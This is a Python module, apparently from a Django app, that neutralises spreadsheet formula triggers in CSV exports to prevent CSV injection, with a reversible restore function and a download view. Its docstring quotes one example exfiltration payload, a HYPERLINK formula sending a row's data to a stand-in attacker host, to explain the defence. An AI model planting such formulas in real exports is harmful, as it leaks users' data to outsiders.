"""CSV cells that a spreadsheet opens as text, never as a formula (CSV injection).

Excel, LibreOffice and Google Sheets run a cell that begins with = + - or @ as a formula,
and skip a leading tab or carriage return to find one: a "name" such as
=HYPERLINK("http://evil.example/?"&A1,"詳細") in an export an administrator opens becomes a
link that sends the row away. OWASP's advice, followed here: prefix such a cell with a
single quote, which the spreadsheet takes as "this is text" and does not show.
https://owasp.org/www-community/attacks/CSV_Injection

`restore` undoes `neutralise` exactly, so that a file we export imports back unchanged. A
value that already starts with quotes before one of those characters gets one more quote,
so that `restore(neutralise(v)) == v` for every string.
"""

_TRIGGERS = frozenset("=+-@\t\r")


def neutralise(value) -> str:
    """The cell as text that no spreadsheet runs. None is an empty cell."""
    text = "" if value is None else str(value)
    if text[:1] in _TRIGGERS or _looks_neutralised(text):
        return "'" + text
    return text


def restore(value: str) -> str:
    """The value `neutralise` was given (for the importer). Other cells are left as they are."""
    return value[1:] if _looks_neutralised(value) else value


def _looks_neutralised(text: str) -> bool:
    return text[:1] == "'" and text.lstrip("'")[:1] in _TRIGGERS


def download(request, filename: str, header, rows):
    """A CSV download of `rows` under `header`, every cell neutralised: UTF-8 with a BOM
    (Excel reads it as such), or CP932 (`?encoding=cp932`) for older Excel and the ward's
    other systems, where a character CP932 lacks becomes "?" rather than failing."""
    import csv
    import io

    from django.http import HttpResponse

    buffer = io.StringIO()
    writer = csv.writer(buffer)
    writer.writerow(header)
    for cells in rows:
        writer.writerow([neutralise(c) for c in cells])
    if request.GET.get("encoding") == "cp932":
        data, charset = buffer.getvalue().encode("cp932", errors="replace"), "shift_jis"
    else:
        data, charset = ("\ufeff" + buffer.getvalue()).encode("utf-8"), "utf-8"
    response = HttpResponse(data, content_type=f"text/csv; charset={charset}")
    response["Content-Disposition"] = f'attachment; filename="{filename}"'
    return response
